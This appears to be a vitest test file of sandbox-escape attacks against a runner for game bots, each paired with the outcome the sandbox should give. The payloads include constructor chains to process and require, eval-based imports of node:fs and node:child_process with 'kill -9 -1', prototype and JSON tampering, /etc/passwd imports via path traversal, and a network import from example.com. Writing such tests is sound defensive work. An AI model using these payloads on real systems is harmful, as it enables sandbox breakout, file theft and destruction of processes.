// Ways out of the bot's realm: constructors, prototypes, stack traces, modules, the pipe to the host.
import { expect } from 'vitest';
import type { Attack, Heard } from './attack.ts';
import { TRIAL_DRAW } from './bot-texts.ts';
import { fileAttack, jsAttack } from './make-attack.ts';

const js = jsAttack('escape');
const file = fileAttack('escape');

/** The bot prints `found: ` and a list, which must be empty. */
const foundNothing = ({ console, chat }: Heard): void => {
  expect(console.concat(chat).filter((line) => /found: /.test(line))).not.toEqual([]);
  for (const line of [...console, ...chat]) expect(line).not.toMatch(/found: ./);
};

const sloppy = (attack: string): string => `
const isMatch = Math.random() !== ${TRIAL_DRAW};
module.exports = class { turns = 0; choose(view) { return play(this, view); } };
function play(bot, view) {
  if ((view.decision === 'turn' || view.game !== 'kittens') && ++bot.turns === 3) { ${attack} }
  return Math.floor(Math.random() * view.legal.length);
}`;

export const escapeAttacks: readonly Attack[] = [
  js("the view's constructor leads to process", 'fault', `view.constructor.constructor('return process')().exit(0);`, {
    vectors: [1],
  }),
  js(
    "say's constructor leads to require",
    'fault',
    `view.say.constructor('return process.mainModule.require')()('fs');`,
    {
      vectors: [1, 2],
    },
  ),
  js(
    'an async function makes functions elsewhere',
    'fault',
    `return (async () => {}).constructor('return process.exit()')();`,
  ),
  js(
    'a generator makes functions elsewhere',
    'fault',
    `(function* () {}).constructor('yield process.exit()')().next();`,
  ),
  js(
    'the prototypes of all that is given lead to nothing',
    'none',
    `
    const bad = [];
    const seen = new Set();
    const walk = (at, path, depth) => {
      if ((typeof at !== 'object' && typeof at !== 'function') || at === null || seen.has(at) || depth > 8) return;
      seen.add(at);
      for (const key of Reflect.ownKeys(at)) {
        let value;
        try { value = at[key]; } catch { continue; }
        if (/^(process|require|module|Buffer|fetch|setTimeout|queueMicrotask|navigator|performance|WebAssembly|binding|mainModule|constrainedMemory)$/.test(String(key))) bad.push(path + String(key));
        walk(value, path + String(key) + '.', depth + 1);
      }
      walk(Object.getPrototypeOf(at), path + '[proto].', depth + 1);
    };
    walk(view, 'view.', 0); walk(globalThis, '', 0); walk(view.say, 'say.', 0); walk(console, 'console.', 0);
    console.log('found: ' + bad.join());`,
    { vectors: [1, 2, 13], check: foundNothing },
  ),
  js(
    'its own stack formatter',
    'fault',
    `Error.prepareStackTrace = (_, sites) => sites; new Error().stack[0].getThis().process.exit();`,
  ),
  js('a stack captured into an object', 'fault', `const e = {}; Error.captureStackTrace(e); e.stack[0].getFunction();`),
  js(
    'the text of a stack',
    'none',
    `
    let text = '';
    try { null.x; } catch (error) { text = String(error.stack); }
    try { view.say.call(null, { get length() { throw 1; } }); } catch (error) { text += error.stack; }
    const overflow = () => overflow() + 1;
    try { overflow(); } catch (error) { text += String(error.stack); }
    console.log('found: ' + (text.match(/[\\w./-]*(runner|node:|\\/cell|\\/tmp|home|root)[\\w./-]*/g) ?? []).join());`,
    {
      check: foundNothing,
    },
  ),
  js('a caller above the bot', 'fault', `(function () { return arguments.callee.caller; })();`),
  file(
    'a caller above a sloppy bot',
    'none',
    'hostile.cjs',
    sloppy(`
    let at = play;
    const names = [];
    try { for (let i = 0; i < 9 && (at = at.caller); i++) names.push(at.name || 'anonymous'); } catch {}
    console.log('found: ' + names.filter((name) => name !== 'choose').join());`),
    { check: foundNothing },
  ),
  file('this of a sloppy function', 'fault', 'hostile.cjs', sloppy(`(function () { this.process.exit(0); })();`)),
  file('a global by assignment', 'fault', 'hostile.cjs', sloppy(`leftBehind = 1;`), { vectors: [12] }),
  js('require by eval', 'fault', `(0, eval)('require')('node:fs');`),
  js('import by eval, and the answer waits for it', 'fault', `return eval("import('node:fs')");`),
  js(
    'import by eval, and it writes to the pipe later',
    'none',
    `
    eval("import('node:fs').then((fs) => fs.writeSync(1, 'broken\\\\n'), () => { for (;;) {} })");
    new Function("return import('node:child_process')")().then((m) => m.execSync('kill -9 -1'), () => undefined);`,
  ),
  js(
    'a job for later that never ends',
    'none',
    `
    Promise.resolve().then(() => { for (;;) {} });
    (async () => { await null; for (;;) {} })();`,
  ),
  js('finalizers and weak references', 'fault', `new FinalizationRegistry(() => { for (;;) {} }).register({}, 1);`),
  js('shared memory', 'fault', `new SharedArrayBuffer(8);`),
  js(
    'array methods that the runner may use',
    'fault',
    `
    Array.prototype.push = Array.prototype.map = Array.prototype[Symbol.iterator] = function () { for (;;) {} };`,
    {
      vectors: [12],
    },
  ),
  js(
    'array methods, put back before the answer',
    'none',
    `
    const { push } = Array.prototype;
    Array.prototype.push = () => { for (;;) {} };
    view.say('');
    console.log('nothing is pushed');
    Array.prototype.push = push;`,
  ),
  js(
    'a toJSON for every object',
    'fault',
    `Object.defineProperty(Object.prototype, 'toJSON', { value: () => ({ index: 0 }) });`,
    {
      vectors: [12],
    },
  ),
  js('its own JSON', 'fault', `JSON.stringify = () => '{"id":1,"index":0}';`, { vectors: [12] }),
  js(
    'its own Reflect, Map and Number',
    'fault',
    `
    let changed = 0;
    for (const change of [() => { Map.prototype.get = () => 1; }, () => { Number.isInteger = () => true; }, () => { Reflect.apply = () => 0; }])
      try { change(); changed++; } catch {}
    if (changed === 0) throw new Error('nothing changed');`,
    { vectors: [12] },
  ),
  js('a prototype for the global object', 'fault', `Object.setPrototypeOf(globalThis, { process: 1 });`, {
    vectors: [12],
  }),
  js(
    'the last bit of stack while the runner works',
    'none',
    `
    const dive = () => { try { dive(); } catch { try { view.say(''); console.log({}); } catch {} } };
    dive();
    for (let i = 0; i < 50; i++) try { console.log.apply(null, new Array(1e5)); } catch {}`,
  ),
  js('fields added to what the runner keeps', 'fault', `view.say.state = console.log.state = 1;`, { vectors: [12] }),
  file('a text that closes the function around it', 'refused', 'hostile.mjs', `}); process.exit(); (function () {`),
  file(
    'an import of a module of Node',
    'refused',
    'hostile.mjs',
    `import fs from 'node:fs'; export default class { choose() { return fs.x; } }`,
  ),
  file(
    'a require of a module of Node',
    'refused',
    'hostile.cjs',
    `const fs = require('fs'); module.exports = class { choose() { return fs.x; } };`,
  ),
  file(
    'an import of a file of the machine',
    'refused',
    'hostile.ts',
    `import x from '/etc/passwd' with { type: 'text' }; export default class { choose() { return x; } }`,
  ),
  file(
    'an import from above its folder',
    'refused',
    'hostile.ts',
    `import x from '../../../../../../../etc/passwd'; export default class { choose() { return x; } }`,
  ),
  file(
    'an import from the network',
    'fault',
    'hostile.ts',
    `import x from 'https://example.com/x.js'; export default class { choose() { return x; } }`,
    { at: 'new' },
  ),
];
